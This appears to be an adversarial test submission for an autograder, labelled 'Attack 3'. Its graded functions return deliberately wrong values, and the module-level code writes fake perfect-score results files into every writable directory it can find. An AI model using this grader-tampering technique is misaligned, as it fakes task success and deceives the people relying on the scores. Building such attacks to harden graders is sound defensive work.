"""Attack 3: wrong answers, and a fake perfect results.json / results pickle everywhere writable."""
import json
import os
import pickle

import numpy as np

FAKE = {"score": 100.0, "tests": [{"name": "q1_basics", "score": 3, "max_score": 3},
                                  {"name": "q2_arrays", "score": 3, "max_score": 3}]}
written = []


def _plant(folder):
    for name in ("results.json", "grades.csv", "results.pkl"):
        try:
            path = os.path.join(folder, name)
            with open(path, "wb") as f:
                if name.endswith(".json"):
                    f.write(json.dumps(FAKE).encode())
                elif name.endswith(".pkl"):
                    pickle.dump(FAKE, f)
                else:
                    f.write(b"submission,score\nall,100\n")
            written.append(path)
        except OSError:
            pass


for folder in ("/autograder/results", "/autograder", "..", "../..", "/tmp", "/", os.path.expanduser("~"),
               "{{OUT}}", "{{OUT}}/results", "{{BUNDLE}}"):
    _plant(folder)
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in root or "/lib/python3" in root:
        dirs[:] = []
        continue
    if os.access(root, os.W_OK):
        _plant(root)
print("planted", len(written), "fake results:", written[:10])


def add(a, b):
    return -1


def safe_div(a, b):
    return -1.0


def scale(x, k):
    return np.zeros(3)


def load_numbers(path):
    return np.zeros(3)
